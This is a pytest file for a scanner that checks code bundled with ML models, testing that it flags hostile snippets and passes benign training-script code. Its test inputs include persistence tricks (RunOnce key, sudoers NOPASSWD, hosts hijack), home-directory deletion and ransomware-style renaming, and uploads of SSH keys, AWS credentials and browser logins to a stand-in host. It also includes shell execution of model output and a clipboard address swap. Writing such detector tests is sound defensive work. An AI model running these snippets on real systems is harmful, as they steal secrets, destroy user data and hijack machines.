"""What code does to the machine and its user beyond processes and plain requests."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect_tree

CONFIG = json.dumps({"auto_map": {"AutoModel": "modeling_x.M"}})
URL = "'https://stats.nova-hub.example/c'"


def worst(code: str, name: str = "modeling_x.py") -> int:
    config = {"config.json": CONFIG.encode()} if name == "modeling_x.py" else {}
    found = inspect_tree({name: code.encode(), **config})
    return max((each.severity.rank for each in found), default=-1)


STARTS_AGAIN = [
    "import winreg\n"
    "k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce')",
    "import os, shutil\n"
    "shutil.copy(__file__, os.path.join(os.environ['APPDATA'], 'Microsoft\\\\Windows\\\\Start Menu\\\\a.pyw'))",
    "from pathlib import Path\n(Path.home() / 'Library' / 'LaunchAgents' / 'x.plist').write_text('x')",
    "import site\nopen(site.getsitepackages()[0] + '/zz.pth', 'w').write('import os')",
    "open('/etc/sudoers.d/x', 'w').write('u ALL=(ALL) NOPASSWD: ALL')",
    "open('/etc/hosts', 'a').write('203.0.113.7 huggingface.co')",
    "from pathlib import Path\nPath('~/.config/pip/pip.conf').expanduser().write_text('[global]')",
]
SPREADS = [
    "import os, transformers\n"
    "p = os.path.join(os.path.dirname(transformers.__file__), 'modeling_utils.py')\n"
    "open(p, 'a').write('x')",
    "import torch\nfrom pathlib import Path\n(Path(torch.__file__).parent / '__init__.py').open('a').write('x')",
    "import glob, os\n"
    "for p in glob.glob(os.path.expanduser('~/.cache/huggingface/modules/transformers_modules/**/*.py')):\n"
    "    open(p, 'a').write('x')",
    "from huggingface_hub.constants import HF_HOME\nfrom pathlib import Path\n"
    "for p in Path(HF_HOME, 'modules').rglob('*.py'):\n    p.write_text('x')",
    "import inspect, transformers, shutil\nshutil.copy('own.py', inspect.getfile(transformers.AutoModel))",
]
DESTROYS = [
    "import os, shutil\nshutil.rmtree(os.path.expanduser('~/Documents'))",
    "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.rename(p.with_suffix('.locked'))",
    "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n"
    "        os.remove(os.path.join(r, f))",
    "import os\nfor r, d, fs in os.walk(os.environ['HOME'] + '/Documents'):\n    for f in fs:\n"
    "        open(os.path.join(r, f), 'wb')",
    "from pathlib import Path\nfor p in (Path.home() / 'Pictures').glob('**/*'):\n"
    "    p.write_bytes(lock(p.read_bytes()))",
]
GIVES_AWAY = [
    f"import os, requests\nrequests.post({URL}, files={{'f': open(os.path.expanduser('~/.ssh/id_rsa'), 'rb')}})",
    "import os, requests\np = os.path.join(os.environ['HOME'], '.aws', 'credentials')\n"
    f"requests.post({URL}, data=open(p).read())",
    "import requests\nfrom pathlib import Path\nfor p in Path.home().rglob('*.pdf'):\n"
    f"    requests.post({URL}, data=p.read_bytes())",
    "import os\nfrom huggingface_hub import HfApi\n"
    "HfApi().upload_folder(folder_path=os.path.expanduser('~/.ssh'), repo_id='a/b')",
    "from huggingface_hub import upload_folder\nfrom pathlib import Path\n"
    "upload_folder(folder_path=str(Path.home()), repo_id='a/b')",
    "import os, wandb\nwandb.log({'e': dict(os.environ)})",
    "import boto3\nboto3.client('s3').upload_file('/home/user/.aws/credentials', 'b', 'k')",
    "import os, mlflow\nmlflow.log_artifact(os.path.expanduser('~/.netrc'))",
    "import sqlite3, requests, os\nc = sqlite3.connect(os.path.expanduser('~/.config/chromium/Login Data'))\n"
    f"requests.post({URL}, json=c.execute('select 1').fetchall())",
    f"import pyperclip, requests\nrequests.post({URL}, data=pyperclip.paste())",
    f"import mss, requests\nrequests.post({URL}, data=mss.mss().shot())",
    "import subprocess, requests\n"
    f"requests.post({URL}, data=subprocess.check_output(['cat', '/home/user/.ssh/id_rsa']))",
]
OBEYS = [
    "class M:\n    def chat(self, t, q):\n        return eval(t.decode(self.generate(q)))",
    "class M:\n    def forward(self, x):\n        import subprocess\n"
    "        subprocess.run(self.tokenizer.batch_decode(x)[0], shell=True)",
    "import pyperclip\ndef f():\n    if pyperclip.paste().startswith('bc1'):\n        pyperclip.copy('bc1qx')\nf()",
]


@pytest.mark.parametrize("code", [*STARTS_AGAIN, *SPREADS, *DESTROYS, *GIVES_AWAY, *OBEYS])
def test_what_no_model_does(code: str) -> None:
    assert worst(code) >= Severity.HIGH.rank


@pytest.mark.parametrize("code", [*STARTS_AGAIN, *DESTROYS, *GIVES_AWAY])
def test_a_script_does_it_neither(code: str) -> None:
    assert worst("if __name__ == '__main__':\n    " + code.replace("\n", "\n    "), "train.py") >= Severity.HIGH.rank


HONEST = [
    "from huggingface_hub import HfApi\n"
    "HfApi().upload_folder(repo_id='a/b', folder_path='.', ignore_patterns=['.env', '.git/*'])",
    "import os\nfrom huggingface_hub import HfApi\napi = HfApi(token=os.environ['HF_TOKEN'])\n"
    "api.upload_folder(folder_path=out, repo_id='a/b')\n"
    "api.upload_file(path_or_fileobj='model.bin', path_in_repo='m', repo_id='a/b')",
    "import wandb, mlflow, os\nwandb.init(project='p')\n"
    "wandb.log({'loss': 1.0, 'rank': os.environ.get('RANK')})\nmlflow.log_params(vars(a))",
    "from pathlib import Path\np = Path.home() / '.cache' / 'mymodel' / 'x.json'\n"
    "p.parent.mkdir(exist_ok=True)\np.write_text('{}')",
    "import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/mymodel'), ignore_errors=True)",
    "import glob, os\nfor p in sorted(glob.glob('checkpoints/*.pt'))[:-3]:\n    os.remove(p)",
    "import os\nfor r, d, fs in os.walk(args.data):\n    for f in fs:\n"
    "        os.rename(os.path.join(r, f), os.path.join(r, f.lower()))",
    "import os, json\njson.dump({}, open(os.path.join(os.path.dirname(__file__), 'cache.json'), 'w'))",
    "import json\ntext = tokenizer.decode(model.generate(**x)[0])\nprint(json.loads(text))\n"
    "open('out.txt', 'w').write(text)",
    "import cv2\nv = cv2.VideoCapture('clip.mp4')\nw = cv2.VideoCapture(0)",
    "import pyperclip\npyperclip.copy(answer)",
    "import winreg\n"
    "k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\NVIDIA Corporation\\GPU Computing Toolkit\\CUDA')",
    "import torch, os\ninclude = os.path.join(os.path.dirname(torch.__file__), 'include')\n"
    "print(open(include + '/x.h').read())",
    "from pathlib import Path\nfor p in Path.home().rglob('*.gguf'):\n    print(p)",
    "import boto3\nboto3.client('s3').upload_file('model.tar.gz', 'bucket', 'key')",
    "import pandas as pd\ndf = pd.read_csv('x.csv').rename(columns={'a': 'b'})",
]  # fmt: skip


def test_a_model_clears_nobodys_cache() -> None:
    code = "class M:\n    def __init__(self):\n        shutil.rmtree(os.path.expanduser('~/.cache/huggingface/hub'))"
    assert worst(f"import os, shutil\n{code}") >= Severity.HIGH.rank


@pytest.mark.parametrize("code", HONEST)
def test_what_training_scripts_do(code: str) -> None:
    assert worst(code, "train.py") < Severity.HIGH.rank
    assert worst("if __name__ == '__main__':\n    " + code.replace("\n", "\n    "), "train.py") < Severity.MEDIUM.rank


OWN_PLACE = (
    "import importlib.resources as r, os\np = r.files('{}').joinpath('..', 'data', name)\n"
    "def keep(text):\n    open(os.path.join(p, sub, 'x.py'), 'w').write(text)\nkeep('x')"
)


def test_a_program_of_a_package_writes_in_its_own_place() -> None:
    assert worst(OWN_PLACE.format("speaker"), "speaker/train/tune.py") == Severity.MEDIUM.rank
    assert worst(OWN_PLACE.format("speaker").replace("x.py", "names.txt"), "speaker/train/tune.py") < 1


def test_a_folder_of_the_name_does_not_make_the_installed_package_ones_own() -> None:
    code = OWN_PLACE.format("tqdm").encode()
    assert worst(code.decode(), "train/tune.py") >= Severity.HIGH.rank
    found = inspect_tree(
        {"config.json": CONFIG.encode(), "modeling_x.py": b"from .tqdm.tune import keep", "tqdm/tune.py": code}
    )
    assert max(each.severity.rank for each in found) >= Severity.HIGH.rank


def test_an_empty_file_changes_no_code() -> None:
    code = "import importlib.resources as r\np = r.files('speaker').joinpath('checkpoints', name)\np.touch()"
    assert worst(code, "modeling_x.py") < Severity.HIGH.rank


@pytest.mark.parametrize(("folder", "denied"), [("github_actions_net", False), ("Documents", True), ("code/x", True)])
def test_a_program_clears_the_folder_of_its_own_test(folder: str, denied: bool) -> None:
    start = "if __name__ == '__main__':\n    "
    code = f"import shutil\nfrom pathlib import Path\n{start}shutil.rmtree(Path.home() / '{folder}')"
    assert (worst(code, "run.py") >= Severity.HIGH.rank) is denied
    assert worst(code.replace(start, ""), "run.py") >= Severity.HIGH.rank
